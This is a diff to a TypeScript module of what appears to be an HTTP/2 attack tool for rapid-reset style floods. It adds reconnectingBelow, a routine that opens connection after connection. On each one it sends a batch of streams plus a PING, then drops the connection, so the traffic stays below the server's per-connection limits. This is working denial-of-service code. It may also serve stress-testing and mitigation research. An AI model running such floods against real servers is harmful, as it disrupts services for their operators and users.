@@ -1,6 +1,6 @@
 /** Attacks that open streams only to have them reset: by their own hand, or by the server's. */
 import { setTimeout } from "node:timers/promises";
-import { clientPreface, frameType, headers, reset, settings, streamIdAt, windowUpdate } from "../wire/frames.js";
+import { clientPreface, frameType, headers, ping, reset, settings, streamIdAt, windowUpdate } from "../wire/frames.js";
 import { firstRequest, methodPath, repeatedRequest } from "../wire/header-blocks.js";
 import type { RawConnection } from "../wire/raw-connection.js";
 import type { Attack, Attacker } from "./attacker.js";
@@ -48,6 +48,25 @@ export function reconnecting(ending: Ending): Attack {
       };
       await attacker.flood(connection, nextBatch, batchStreams);
       connection.destroy();
+      await connection.closed;
+    }
+  };
+}
+
+/** So few streams on each connection that no limit is reached, and then the next one: the attacker knows the server's limits. */
+export function reconnectingBelow(ending: Ending, streams: number): Attack {
+  const bytes = Buffer.concat([new Streams(ending).next(streams), ping()]);
+  return async (attacker) => {
+    while (!attacker.isStopped) {
+      const connection = await attacker.open();
+      if (connection === undefined) continue;
+      // The answer to the PING says that all of it was read.
+      connection.onFrame = ({ type }) => {
+        if (type === frameType.PING || type === frameType.GOAWAY) connection.destroy();
+      };
+      greet(connection, ending);
+      connection.write(bytes);
+      attacker.units += streams;
       await connection.closed;
     }
   };
